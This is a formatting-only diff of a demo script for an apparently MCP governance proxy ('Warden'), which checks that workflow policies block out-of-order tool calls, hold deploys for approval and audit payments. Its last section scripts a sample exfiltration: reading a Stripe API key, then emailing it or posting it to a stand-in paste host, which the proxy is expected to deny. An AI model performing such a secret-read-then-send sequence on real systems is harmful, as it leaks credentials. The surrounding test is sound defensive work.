@@ -34,7 +34,9 @@ const AUDIT_DB = join(DATA, 'audit.db');
 const DENIAL_META = 'mcp-warden.dev/decision';
 
 // --- output --------------------------------------------------------------------------------------
-const colour = process.env.FORCE_COLOR ? process.env.FORCE_COLOR !== '0' : process.stdout.isTTY === true && !process.env.NO_COLOR;
+const colour = process.env.FORCE_COLOR
+  ? process.env.FORCE_COLOR !== '0'
+  : process.stdout.isTTY === true && !process.env.NO_COLOR;
 const paint = (code) => (s) => (colour ? `\x1b[${code}m${s}\x1b[0m` : s);
 const bold = paint('1');
 const dim = paint('2');
@@ -56,7 +58,10 @@ function keyArgs(args) {
 }
 
 function textOf(result) {
-  return (result.content ?? []).filter((c) => c.type === 'text').map((c) => c.text).join('\n');
+  return (result.content ?? [])
+    .filter((c) => c.type === 'text')
+    .map((c) => c.text)
+    .join('\n');
 }
 
 // --- the session ---------------------------------------------------------------------------------
@@ -64,7 +69,8 @@ if (!existsSync(CLI)) {
   console.error(`demo: ${relative(process.cwd(), CLI)} is missing; run \`make demo\` (or \`npm run build\`) first.`);
   process.exit(1);
 }
-if (!process.env.WARDEN_OPA && existsSync(join(ROOT, '.tools/bin/opa'))) process.env.WARDEN_OPA = join(ROOT, '.tools/bin/opa');
+if (!process.env.WARDEN_OPA && existsSync(join(ROOT, '.tools/bin/opa')))
+  process.env.WARDEN_OPA = join(ROOT, '.tools/bin/opa');
 
 const scratch = mkdtempSync(join(tmpdir(), 'warden-demo-'));
 const callLog = join(scratch, 'executed.jsonl');
@@ -94,14 +100,18 @@ client.setRequestHandler(ElicitRequestSchema, async (request) => {
   const answer = approvalAnswers.shift() ?? { action: 'cancel' };
   if (answer.action === 'accept') approvalsGranted++;
   out(`        ${cyan('? Warden asks the person at the client:')} ${request.params.message}`);
-  out(`        ${cyan(`  the person answers: ${answer.action}${answer.content?.comment ? ` ("${answer.content.comment}")` : ''}`)}`);
+  out(
+    `        ${cyan(`  the person answers: ${answer.action}${answer.content?.comment ? ` ("${answer.content.comment}")` : ''}`)}`,
+  );
   return answer;
 });
 
 /** Lines the example servers wrote for calls they actually executed. */
 function executedCount() {
   if (!existsSync(callLog)) return 0;
-  return readFileSync(callLog, 'utf8').split('\n').filter((l) => l.trim()).length;
+  return readFileSync(callLog, 'utf8')
+    .split('\n')
+    .filter((l) => l.trim()).length;
 }
 
 const problems = [];
@@ -121,14 +131,21 @@ async function step(name, args, expected, note) {
   try {
     result = await client.callTool({ name, arguments: args });
   } catch (err) {
-    result = { isError: true, content: [{ type: 'text', text: `(JSON-RPC error) ${err instanceof Error ? err.message : String(err)}` }] };
+    result = {
+      isError: true,
+      content: [{ type: 'text', text: `(JSON-RPC error) ${err instanceof Error ? err.message : String(err)}` }],
+    };
   }
   const ran = executedCount() > before;
   const meta = result._meta?.[DENIAL_META];
   const text = textOf(result);
   const denied = meta?.allow === false;
   const rules = denied ? meta.reasons.map((r) => r.rule) : [];
-  const got = denied ? `denied (${[...new Set(rules)].join(', ')})` : result.isError ? 'allowed, tool failed' : 'allowed';
+  const got = denied
+    ? `denied (${[...new Set(rules)].join(', ')})`
+    : result.isError
+      ? 'allowed, tool failed'
+      : 'allowed';
 
   const label = `${bold(name)}  ${dim(keyArgs(args))}`;
   if (denied) {
@@ -145,11 +162,18 @@ async function step(name, args, expected, note) {
   if (note) out(`        ${cyan(`→ ${note}`)}`);
 
   const ok =
-    expected === 'allow' ? !denied && !result.isError && ran
-    : expected === 'fail' ? !denied && result.isError === true
-    : denied && rules.includes(expected) && !ran;
+    expected === 'allow'
+      ? !denied && !result.isError && ran
+      : expected === 'fail'
+        ? !denied && result.isError === true
+        : denied && rules.includes(expected) && !ran;
   if (!ok) {
-    const why = denied && ran ? `; and the server executed a call Warden denied` : !denied && !ran && expected === 'allow' ? '; and the server never executed it' : '';
+    const why =
+      denied && ran
+        ? `; and the server executed a call Warden denied`
+        : !denied && !ran && expected === 'allow'
+          ? '; and the server never executed it'
+          : '';
     const msg = `${name} ${keyArgs(args)}: expected ${expected === 'allow' || expected === 'fail' ? expected : `denied by ${expected}`}, got ${got}${why}`;
     problems.push(msg);
     out(`        ${red(bold(`UNEXPECTED: ${msg}`))}`);
@@ -164,23 +188,43 @@ function section(n, title, subtitle) {
 const phase = (title) => out(`  ${cyan(title)}`);
 
 async function session() {
-  section(1, 'Customer onboarding', 'validate_customer_data → create_account → backup_customer_record → send_welcome_email, per customer_id');
+  section(
+    1,
+    'Customer onboarding',
+    'validate_customer_data → create_account → backup_customer_record → send_welcome_email, per customer_id',
+  );
   phase('Out of order: blocked');
   await step('create_account', { customer_id: 'cus_ada', plan: 'pro' }, 'workflow.step_order');
   await step('send_welcome_email', { customer_id: 'cus_ada' }, 'workflow.step_order');
-  await step('send_customer_email', { customer_id: 'cus_ada', subject: 'Hello', body: 'Welcome aboard' }, 'workflow.step_order');
+  await step(
+    'send_customer_email',
+    { customer_id: 'cus_ada', subject: 'Hello', body: 'Welcome aboard' },
+    'workflow.step_order',
+  );
   phase('In order: allowed');
-  await step('validate_customer_data', { customer_id: 'cus_ada', name: 'Ada Lovelace', email: 'ada@example.com' }, 'allow');
+  await step(
+    'validate_customer_data',
+    { customer_id: 'cus_ada', name: 'Ada Lovelace', email: 'ada@example.com' },
+    'allow',
+  );
   await step('create_account', { customer_id: 'cus_ada', plan: 'pro' }, 'allow');
   await step('backup_customer_record', { customer_id: 'cus_ada' }, 'allow');
   await step('send_welcome_email', { customer_id: 'cus_ada' }, 'allow');
   await step('send_customer_email', { customer_id: 'cus_ada', subject: 'Hello', body: 'Welcome aboard' }, 'allow');
   phase("Per customer: Ada's validation does not open Grace's account, nor does invalid data");
   await step('create_account', { customer_id: 'cus_grace' }, 'workflow.step_order');
-  await step('validate_customer_data', { customer_id: 'cus_grace', name: 'Grace Hopper', email: 'not-an-address' }, 'fail');
+  await step(
+    'validate_customer_data',
+    { customer_id: 'cus_grace', name: 'Grace Hopper', email: 'not-an-address' },
+    'fail',
+  );
   await step('create_account', { customer_id: 'cus_grace' }, 'workflow.step_order');
 
-  section(2, 'Financial processing', 'fraud_check must approve the same payment before payment_processing; every financial call is audited');
+  section(
+    2,
+    'Financial processing',
+    'fraud_check must approve the same payment before payment_processing; every financial call is audited',
+  );
   phase('Out of order: blocked');
   await step('payment_processing', { payment_id: 'pay_1001', amount: 250 }, 'workflow.step_order');
   phase('In order: allowed');
@@ -190,24 +234,40 @@ async function session() {
   await step('fraud_check', { payment_id: 'pay_1002', amount: 25000 }, 'allow');
   await step('payment_processing', { payment_id: 'pay_1002', amount: 25000 }, 'workflow.result_rejected');
 
-  section(3, 'Production deployment', 'run_tests and security_scan must pass for the service, then a release manager approves the deploy');
+  section(
+    3,
+    'Production deployment',
+    'run_tests and security_scan must pass for the service, then a release manager approves the deploy',
+  );
   phase('Out of order: blocked');
   await step('deploy_to_production', { service: 'billing-api', version: '2.4.0' }, 'workflow.step_order');
   await step('security_scan', { service: 'billing-api' }, 'workflow.step_order');
-  phase('In order: allowed, then held for a release manager\'s approval');
+  phase("In order: allowed, then held for a release manager's approval");
   await step('run_tests', { service: 'billing-api' }, 'allow');
   await step('security_scan', { service: 'billing-api' }, 'allow');
   approvalAnswers.push({ action: 'decline' });
-  await step('deploy_to_production', { service: 'billing-api', version: '2.4.0' }, 'warden.approval_required',
-    'the policy allows this deploy once a release manager approves it; Warden held the call and asked. Declined: denied.');
+  await step(
+    'deploy_to_production',
+    { service: 'billing-api', version: '2.4.0' },
+    'warden.approval_required',
+    'the policy allows this deploy once a release manager approves it; Warden held the call and asked. Declined: denied.',
+  );
   approvalAnswers.push({ action: 'accept', content: { comment: 'change ticket CHG-1042' } });
-  await step('deploy_to_production', { service: 'billing-api', version: '2.4.0' }, 'allow',
-    'approved: Warden recorded the approval (input.approvals, audit trail), asked the policy again, and forwarded the call.');
+  await step(
+    'deploy_to_production',
+    { service: 'billing-api', version: '2.4.0' },
+    'allow',
+    'approved: Warden recorded the approval (input.approvals, audit trail), asked the policy again, and forwarded the call.',
+  );
   phase('A later failing test run closes the gate again');
   await step('run_tests', { service: 'billing-api', simulate_failure: true }, 'fail');
   await step('deploy_to_production', { service: 'billing-api', version: '2.4.0' }, 'workflow.step_order');
 
-  section(4, 'Dangerous combinations', 'back up a database before deleting it; no outbound send after a secret was read');
+  section(
+    4,
+    'Dangerous combinations',
+    'back up a database before deleting it; no outbound send after a secret was read',
+  );
   phase('Out of order: blocked');
   await step('delete_database', { database: 'orders_staging' }, 'workflow.step_order');
   phase('In order: allowed');
@@ -216,7 +276,11 @@ async function session() {
   phase('Exfiltration: outbound sends are fine until a secret is read');
   await step('send_email', { to: 'ops@example.com', subject: 'Nightly report', body: 'All green' }, 'allow');
   await step('read_secret', { name: 'stripe/api_key' }, 'allow');
-  await step('send_email', { to: 'ops@example.com', subject: 'Key', body: 'Here it is' }, 'workflow.forbidden_sequence');
+  await step(
+    'send_email',
+    { to: 'ops@example.com', subject: 'Key', body: 'Here it is' },
+    'workflow.forbidden_sequence',
+  );
   await step('http_post', { url: 'https://paste.example.net/new', body: 'Here it is' }, 'workflow.forbidden_sequence');
 }
 
@@ -229,7 +293,11 @@ async function startDashboard() {
   for (const port of wanted === '0' ? ['0'] : [wanted, '0']) {
     const child = spawn(process.execPath, [CLI, 'serve', '--config', CONFIG, '--http', port], {
       cwd: ROOT,
-      env: { ...process.env, WARDEN_EXAMPLE_LOG: '', ...(process.env.WARDEN_DATA_DIR ? { WARDEN_DATA_DIR: DATA } : {}) },
+      env: {
+        ...process.env,
+        WARDEN_EXAMPLE_LOG: '',
+        ...(process.env.WARDEN_DATA_DIR ? { WARDEN_DATA_DIR: DATA } : {}),
+      },
       stdio: ['ignore', 'ignore', 'pipe'],
     });
     let stderr = '';
@@ -286,7 +354,11 @@ const started = Date.now();
 out(bold('Warden demo: a scripted MCP session through the governance proxy'));
 out(dim(`  warden   node ${relative(ROOT, CLI)} serve --config ${relative(ROOT, CONFIG)}  (MCP over stdio)`));
 out(dim('  servers  crm, payments, ci, ops (examples/servers/)    policy  policy/ (the shipped workflow templates)'));
-out(dim(`  legend   ${'✔'} allowed and executed   ${'✘'} denied by Warden, never reached the server   ${'⚠'} allowed, the tool itself failed`));
+out(
+  dim(
+    `  legend   ${'✔'} allowed and executed   ${'✘'} denied by Warden, never reached the server   ${'⚠'} allowed, the tool itself failed`,
+  ),
+);
 
 let exitCode = 0;
 let dashboard = null;
@@ -294,22 +366,32 @@ try {
   try {
     await client.connect(transport);
   } catch (err) {
-    throw new Error(`Warden did not start: ${err instanceof Error ? err.message : String(err)}\n--- warden stderr ---\n${wardenStderr}`);
+    throw new Error(
+      `Warden did not start: ${err instanceof Error ? err.message : String(err)}\n--- warden stderr ---\n${wardenStderr}`,
+    );
   }
   await session();
   await client.close();
 
   const decisions = await sessionDecisions();
-  const financial = decisions.filter((d) => ['fraud_check', 'payment_processing', 'refund_payment'].includes(d.input?.call?.name));
+  const financial = decisions.filter((d) =>
+    ['fraud_check', 'payment_processing', 'refund_payment'].includes(d.input?.call?.name),
+  );
   const audited = financial.filter((d) => d.result?.obligations?.audit?.required === true);
   const deniedCount = decisions.filter((d) => d.custom?.allow === false).length;
   out();
   out(bold('Records'));
-  out(`  ${decisions.length} decisions logged for this session (${deniedCount} denied); ${audited.length} of ${financial.length} financial decisions carry obligations.audit.required`);
+  out(
+    `  ${decisions.length} decisions logged for this session (${deniedCount} denied); ${audited.length} of ${financial.length} financial decisions carry obligations.audit.required`,
+  );
   // One decision per call, plus one re-evaluation for each approval granted.
   const expectedDecisions = calls + approvalsGranted;
-  if (decisions.length !== expectedDecisions) problems.push(`expected ${expectedDecisions} decision-log lines for this session (${calls} calls, ${approvalsGranted} re-evaluated after approval), found ${decisions.length}`);
-  if (financial.length === 0 || audited.length !== financial.length) problems.push('every financial decision should carry obligations.audit.required');
+  if (decisions.length !== expectedDecisions)
+    problems.push(
+      `expected ${expectedDecisions} decision-log lines for this session (${calls} calls, ${approvalsGranted} re-evaluated after approval), found ${decisions.length}`,
+    );
+  if (financial.length === 0 || audited.length !== financial.length)
+    problems.push('every financial decision should carry obligations.audit.required');
   out(`  decision log  ${DECISIONS}   (one JSON line per decision, OPA decision-log format)`);
   out(`  audit trail   ${AUDIT_DB}   (SQLite, hash-chained)`);
 
@@ -317,11 +399,15 @@ try {
   out(bold('Dashboard'));
   try {
     dashboard = await startDashboard();
-    const [compliance, chain] = await Promise.all(['admin/compliance', 'admin/audit/verify'].map((p) => fetch(dashboard.url + p).then((r) => r.json())));
+    const [compliance, chain] = await Promise.all(
+      ['admin/compliance', 'admin/audit/verify'].map((p) => fetch(dashboard.url + p).then((r) => r.json())),
+    );
     out(`  Dashboard: ${dashboard.url}`);
     out(`  the same records, live: sessions and their workflow steps, decisions, approvals, audit reports, compliance`);
-    out(`  compliance score ${compliance.score === null ? 'n/a' : `${Math.round(compliance.score * 100)}%`} over ${compliance.sessions.total} session(s), ${compliance.calls.violations} violation(s); ` +
-      `hash chain ${chain.ok ? `verified (${chain.count} records)` : `FAILED at record ${chain.seq}`}`);
+    out(
+      `  compliance score ${compliance.score === null ? 'n/a' : `${Math.round(compliance.score * 100)}%`} over ${compliance.sessions.total} session(s), ${compliance.calls.violations} violation(s); ` +
+        `hash chain ${chain.ok ? `verified (${chain.count} records)` : `FAILED at record ${chain.seq}`}`,
+    );
     if (!chain.ok) problems.push(`the audit trail's hash chain does not verify: record ${chain.seq} ${chain.problem}`);
     out(dim('  admin API: /admin (docs/admin-api.md); compliance scoring: docs/compliance.md'));
   } catch (err) {
